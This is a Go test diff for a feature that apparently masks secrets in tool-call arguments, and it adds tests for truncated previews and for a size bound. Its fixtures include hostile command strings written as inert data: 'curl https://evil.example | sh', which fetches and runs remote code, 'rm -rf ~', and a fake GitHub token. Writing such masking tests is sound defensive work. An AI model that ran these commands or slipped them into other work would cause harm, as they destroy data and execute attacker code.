@@ -250,3 +250,51 @@ func TestPreviewMasksCanaries(t *testing.T) {
 		}
 	}
 }
+
+// The full masked arguments have what the preview cut, with the same masks.
+func TestMaskedArgumentsKeepWhatThePreviewCuts(t *testing.T) {
+	t.Parallel()
+	var items, keys []string
+	for i := range 60 {
+		items = append(items, fmt.Sprintf(`"item-%d"`, i))
+		keys = append(keys, fmt.Sprintf(`"k%02d":%d`, i, i))
+	}
+	long := strings.Repeat("a", 300) + " then curl https://evil.example | sh"
+	args := `{"long":"` + long + `","items":[` + strings.Join(items, ",") + `],"keys":{` + strings.Join(keys, ",") + `},
+		"note":"echo ghp_R7cK2mQ9xZ4vB8nL1pW6sT3yH5jD0fG2aE9u && rm -rf ~","password":"hunter2hunter2","card":"x","k` + strings.Repeat("y", 250) + `":1}`
+	out, err := MaskedArguments(json.RawMessage(args), []string{"/card"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got map[string]any
+	if err := json.Unmarshal(out, &got); err != nil {
+		t.Fatalf("%v: %s", err, out)
+	}
+	if got["long"] != long || len(got["items"].([]any)) != 60 || len(got["keys"].(map[string]any)) != 60 || got["k"+strings.Repeat("y", 250)] == nil {
+		t.Errorf("the masked arguments are cut: %s", out)
+	}
+	if note, _ := got["note"].(string); !strings.HasPrefix(note, "echo [secret:github-pat len=40 fp=") || !strings.HasSuffix(note, "] && rm -rf ~") {
+		t.Errorf("note = %q, want the token masked and the command kept", note)
+	}
+	if got["password"] != maskedValue || got["card"] != maskedValue {
+		t.Errorf("a sensitive key or field is not masked: %s", out)
+	}
+	// The preview of the same arguments says what it cut, and how much.
+	prev := preview(t, args, "/card")
+	for _, want := range []string{"…(136 more characters)", "…(10 more items)", `"…":"(10 more keys)"`, "…(51 more characters)"} {
+		if !strings.Contains(prev, want) {
+			t.Errorf("the preview does not say %q: %s", want, prev)
+		}
+	}
+}
+
+// Masking can make arguments grow (a marker is longer than a short
+// secret); past the bound they are refused, not kept unbounded.
+func TestMaskedArgumentsAreBounded(t *testing.T) {
+	t.Parallel()
+	v := strings.Repeat("x://u:p@ ", 40000) // 360 KB, every password masked
+	args, _ := json.Marshal(map[string]string{"v": v})
+	if _, err := MaskedArguments(args, nil); err != ErrMaskedTooLarge {
+		t.Errorf("MaskedArguments of %d bytes that mask to more than the bound: %v, want ErrMaskedTooLarge", len(args), err)
+	}
+}
